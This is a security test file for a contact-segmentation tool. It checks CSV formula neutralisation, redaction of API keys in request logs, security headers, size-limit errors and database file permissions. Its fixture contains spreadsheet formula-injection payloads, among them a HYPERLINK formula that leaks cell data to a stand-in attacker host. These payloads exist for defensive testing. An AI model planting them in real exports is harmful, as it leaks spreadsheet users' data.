// Security hygiene (issue 19): CSV exports that cannot run formulas, request logs without
// secrets, security headers on every answer, size limits answered as problem+json, and a
// database readable by its owner only. Webhook destinations are in webhooks.test.ts.
import { spawn } from 'node:child_process';
import { existsSync, statSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildServer } from '../src/api/server.js';
import { MAX_URL_LENGTH } from '../src/api/limits.js';
import { redactUrl } from '../src/api/logging.js';
import { createKey } from '../src/engine/access/keys.js';
import { fixedClock } from '../src/engine/clock.js';
import { Engine } from '../src/engine/engine.js';
import { startServer, type TestServer } from './helpers/api.js';
import { BIN, runCli } from './helpers/cli.js';
import { tempDir, TEST_NOW } from './helpers/engine.js';

/** Contacts whose text a spreadsheet would run as formulas, and a negative number that must stay one. */
const HOSTILE = [
  { id: 'h1', first_name: '=HYPERLINK("http://evil.test/?leak="&A1,"click")', last_name: '+1+1', email: 'h1@example.com', city: '-2+3', state: '@SUM(A1)', score: -5 },
  { id: '=h2', first_name: '\tTabbed', last_name: 'Plain', email: 'h2@example.com', score: 7 },
];
const STATIC = { id: 'hostile', name: 'Hostile', type: 'static', members: HOSTILE.map((c) => c.id) };

/** Every cell of a CSV text (RFC 4180, quotes doubled), row by row. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += ch;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

/** What every export must hold: no cell a spreadsheet runs; the hostile text kept behind a quote; numbers as numbers. */
function expectNeutralised(csv: string): void {
  const rows = parseCsv(csv);
  const header = rows[0]!;
  const cells = rows.slice(1).flat();
  // The raw text: each formula is quoted and prefixed (a quoted cell is what a spreadsheet reads as text).
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""click"")"`);
  for (const c of cells) if (c !== '') expect(c, `cell ${JSON.stringify(c)}`).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  const byId = new Map(rows.slice(1).map((r) => [r[header.indexOf('id')]!, r]));
  const h1 = byId.get('h1')!;
  const h2 = byId.get("'=h2")!;
  expect(h2, 'the id itself is text, neutralised').toBeDefined();
  expect(h1[header.indexOf('last_name')]).toBe("'+1+1");
  expect(h1[header.indexOf('city')]).toBe("'-2+3");
  expect(h1[header.indexOf('state')]).toBe("'@SUM(A1)");
  expect(h2[header.indexOf('first_name')]).toBe("'\tTabbed");
  // A negative number in a number column stays a number: a spreadsheet reads it as one.
  expect(h1[header.indexOf('score')]).toBe('-5');
}

describe('CSV exports neutralise formula cells, on every path', () => {
  const { dir, cleanup } = tempDir('segmata-security-csv-');
  let server: TestServer;
  const localDb = join(dir, 'local.duckdb');

  beforeAll(async () => {
    server = await startServer({ seed: false, live: false, webhooks: false });
    expect((await server.call('POST', '/contacts', { role: 'editor', body: HOSTILE })).status).toBe(200);
    expect((await server.call('POST', '/segments', { role: 'editor', body: STATIC })).status).toBe(201);
    const local = await Engine.open({ db: localDb, clock: fixedClock(TEST_NOW) });
    await local.upsertRecords('contacts', HOSTILE);
    await local.segments.create(STATIC);
    await local.close();
  });
  afterAll(async () => {
    await server.close();
    cleanup();
  });

  it('the API: GET /segments/{id}/members.csv', async () => {
    const res = await fetch(`${server.base}/api/v1/segments/hostile/members.csv`, { headers: { authorization: `Bearer ${server.keys.viewer}` } });
    expect(res.status).toBe(200);
    expectNeutralised(await res.text());
  });

  it('the CLI on a local database: segments members --format csv', async () => {
    const r = await runCli(['--db', localDb, 'segments', 'members', 'hostile', '--format', 'csv'], { env: { SEGMATA_NOW: TEST_NOW } });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expectNeutralised(r.stdout);
  });

  it('the CLI through a server: segments members --format csv --server', async () => {
    const r = await runCli(['--server', server.base, '--key', server.keys.viewer, 'segments', 'members', 'hostile', '--format', 'csv'], { env: { SEGMATA_NOW: '' } });
    expect(r.code).toBe(0);
    expectNeutralised(r.stdout);
  });
});

/** A server on a fresh database whose request log is kept, line by line. */
async function loggedServer(): Promise<{ base: string; key: string; lines: string[]; close: () => Promise<void> }> {
  const engine = await Engine.open({ db: ':memory:', clock: fixedClock(TEST_NOW) });
  const key = (await createKey(engine.store, 'admin', 'log test', engine.clock())).key;
  const lines: string[] = [];
  const stream = new Writable({
    write(chunk: Buffer, _enc, done) {
      lines.push(...chunk.toString('utf8').split('\n').filter(Boolean));
      done();
    },
  });
  const { app } = await buildServer(engine, { logger: { level: 'info', stream }, live: false, webhooks: false });
  const base = await app.listen({ port: 0, host: '127.0.0.1' });
  return {
    base,
    key,
    lines,
    close: async () => {
      await app.close();
      await engine.close();
    },
  };
}

/** Wait until `text()` matches, or fail saying what was seen. */
async function waitFor(what: string, text: () => string, pattern: RegExp, ms = 60_000): Promise<RegExpMatchArray> {
  const end = Date.now() + ms;
  for (;;) {
    const m = pattern.exec(text());
    if (m) return m;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}; got:\n${text()}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

describe('segmata serve', () => {
  it('prints a sign-in address with the key in its fragment, and logs requests without the key', async () => {
    const { dir, cleanup } = tempDir('segmata-security-serve-');
    const child = spawn(process.execPath, [BIN, '--db', join(dir, 'serve.duckdb'), 'serve', '--port', '0', '--allow-private-webhooks'], { env: { ...process.env, LOG_LEVEL: 'info' } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString('utf8')));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString('utf8')));
    const exited = new Promise<void>((resolve) => child.once('exit', () => resolve()));
    try {
      const [, base, key] = await waitFor('the sign-in address', () => stderr, /open the web UI signed in as that admin: (http:\/\/\S+?)\/#key=(sgm_\S+)\n/);
      expect(stderr).not.toContain('?key=');
      expect(stderr).toContain('webhooks may deliver to loopback, private and link-local addresses');
      const headers = { authorization: `Bearer ${key!}`, 'content-type': 'application/json' };
      // A client that puts the key in the URL anyway (refused: `key` is no parameter of the route): the log does not hold it.
      expect((await fetch(`${base!}/api/v1/segments?key=${key!}&limit=1`, { headers: { authorization: headers.authorization } })).status).toBe(400);
      // --allow-private-webhooks: a receiver on this machine is accepted.
      await fetch(`${base!}/api/v1/segments`, { method: 'POST', headers, body: JSON.stringify({ id: 'all', name: 'All', type: 'static', members: [] }) });
      const hook = await fetch(`${base!}/api/v1/webhooks`, { method: 'POST', headers, body: JSON.stringify({ segmentId: 'all', url: 'http://127.0.0.1:9/hook' }) });
      expect(hook.status).toBe(201);
      await waitFor('the request lines', () => stdout, /"url":"\/api\/v1\/segments\?key=\[redacted\]&limit=1"[^\n]*\n/);
      expect(stdout).not.toContain(key!);
    } finally {
      child.kill('SIGTERM');
      await exited;
      cleanup();
    }
  });
});

describe('request logs', () => {
  it('redact key and token query parameters, and never hold the Authorization header', async () => {
    const server = await loggedServer();
    try {
      const secrets = ['sgm_query-secret-1', 'token-secret-2', 'sgm_api-key-3'];
      const asked = [
        `/api/v1/segments?key=${secrets[0]}&limit=5`,
        `/?token=${secrets[1]}`,
        `/api/v1/health?API_KEY=${secrets[2]}#frag`,
      ];
      for (const path of asked) await (await fetch(`${server.base}${path}`, { headers: { authorization: `Bearer ${server.key}` } })).text();
      const log = server.lines.join('\n');
      expect(server.lines.length).toBeGreaterThan(0);
      for (const s of [...secrets, server.key]) expect(log).not.toContain(s);
      // Still a useful line: which route, with the other parameters as sent.
      const urls = server.lines.map((l) => (JSON.parse(l) as { req?: { url?: string } }).req?.url).filter(Boolean);
      expect(urls).toContain('/api/v1/segments?key=[redacted]&limit=5');
      expect(urls).toContain('/?token=[redacted]');
    } finally {
      await server.close();
    }
  });

  it('redactUrl leaves everything but secret parameters as sent', () => {
    expect(redactUrl('/a?x=1&key=s&y=%20')).toBe('/a?x=1&key=[redacted]&y=%20');
    expect(redactUrl('/a?k%65y=s')).toBe('/a?k%65y=[redacted]');
    expect(redactUrl('/a?access_token=s&monkey=1')).toBe('/a?access_token=[redacted]&monkey=1');
    expect(redactUrl('/a')).toBe('/a');
  });
});

/** One raw HTTP/1.1 exchange (for requests fetch will not send as they are): status, headers, body. */
function rawRequest(base: string, head: string): Promise<{ status: number; headers: Record<string, string>; body: string }> {
  const { hostname, port } = new URL(base);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname, () => socket.write(head));
    let data = '';
    socket.on('data', (d) => (data += d.toString('latin1')));
    socket.on('error', (e) => (data ? undefined : reject(e)));
    socket.on('close', () => {
      const [top = '', ...rest] = data.split('\r\n\r\n');
      const [statusLine = '', ...headerLines] = top.split('\r\n');
      const headers = Object.fromEntries(headerLines.map((l) => [l.slice(0, l.indexOf(':')).toLowerCase(), l.slice(l.indexOf(':') + 1).trim()]));
      resolve({ status: Number(statusLine.split(' ')[1]), headers, body: rest.join('\r\n\r\n') });
    });
  });
}

describe('the server answers', () => {
  let s: TestServer;
  beforeAll(async () => {
    s = await startServer({ live: false, webhooks: false });
  });
  afterAll(async () => s.close());

  it('with the usual security headers, on the API, its errors, the docs and the UI address', async () => {
    for (const path of ['/api/v1/health', '/api/v1/segments', '/api/v1/nope', '/']) {
      const res = await fetch(`${s.base}${path}`, { redirect: 'manual' });
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp, path).toContain("default-src 'self'");
      expect(csp, path).toContain("script-src 'self'");
      expect(csp, path).not.toMatch(/script-src[^;]*unsafe/);
      expect(csp, path).toContain("frame-ancestors 'none'");
      expect(res.headers.get('x-frame-options'), path).toBe('DENY');
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('referrer-policy'), path).toBe('no-referrer');
    }
    const docs = await fetch(`${s.base}/docs/`, { redirect: 'follow' });
    expect(docs.status).toBe(200);
    expect(docs.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    expect(docs.headers.get('x-frame-options')).toBe('DENY');
  });

  it('413 as problem+json: a body over the limit', async () => {
    // Segment definitions: 1 MiB at most (the server's default limit).
    const big = JSON.stringify({ id: 'big', name: 'a'.repeat(1024 * 1024 + 10), type: 'static', members: [] });
    const r = await s.call('POST', '/segments', { role: 'editor', raw: big, headers: { 'content-type': 'application/json' } });
    expect(r.status).toBe(413);
    expect(r.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    expect(r.body).toMatchObject({ status: 413, title: 'Payload too large' });
  });

  it('414 as problem+json: a URL over the limit, whether the server or the HTTP parser sees it first', async () => {
    for (const length of [MAX_URL_LENGTH + 100, 40 * 1024]) {
      const r = await rawRequest(s.base, `GET /api/v1/segments?q=${'a'.repeat(length)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
      expect(r.status, `${length}`).toBe(414);
      expect(r.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(JSON.parse(r.body)).toMatchObject({ status: 414, title: 'URI too long', type: expect.stringContaining('uri-too-long') });
      expect(r.body.length).toBeLessThan(1000); // the URL is not echoed back
    }
  });

  it('431 as problem+json: header fields over the limit', async () => {
    const r = await rawRequest(s.base, `GET /api/v1/health HTTP/1.1\r\nHost: x\r\nX-Big: ${'b'.repeat(20 * 1024)}\r\nConnection: close\r\n\r\n`);
    expect(r.status).toBe(431);
    expect(r.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(JSON.parse(r.body)).toMatchObject({ status: 431, title: 'Request header fields too large' });
  });

  it('an over-long id reaches its route and is refused with the field at fault, not a 404', async () => {
    const r = await s.call('GET', `/segments/${'x'.repeat(300)}`, { role: 'viewer' });
    expect(r.status).toBe(400);
    expect(r.body.errors[0].path).toBe('path.id');
  });
});

describe('key names', () => {
  it('hold no control characters on a local database either, as through the API (nothing is created)', async () => {
    const tmp = tempDir('segmata-keyname-');
    try {
      const db = join(tmp.dir, 'k.duckdb');
      const bad = await runCli(['--db', db, 'keys', 'create', '--role', 'viewer', '--name', 'line\nbreak']);
      expect(bad.code).not.toBe(0);
      expect(bad.stderr).toMatch(/control characters|one line/);
      const list = await runCli(['--db', db, 'keys', 'list']);
      expect(list.stdout).not.toContain('line');
    } finally {
      tmp.cleanup();
    }
  });
});

describe('the database files', () => {
  it('are created readable and writable by their owner only (0600), the WAL too', async () => {
    const { dir, cleanup } = tempDir('segmata-security-mode-');
    const db = join(dir, 'private.duckdb');
    const engine = await Engine.open({ db, clock: fixedClock(TEST_NOW) });
    try {
      await engine.upsertRecords('contacts', [{ id: 'c1', first_name: 'Ada' }]);
      expect(existsSync(`${db}.wal`), 'a write leaves a WAL until the next checkpoint').toBe(true);
      for (const f of [db, `${db}.wal`]) expect((statSync(f).mode & 0o777).toString(8), f).toBe('600');
    } finally {
      await engine.close();
      cleanup();
    }
  });
});
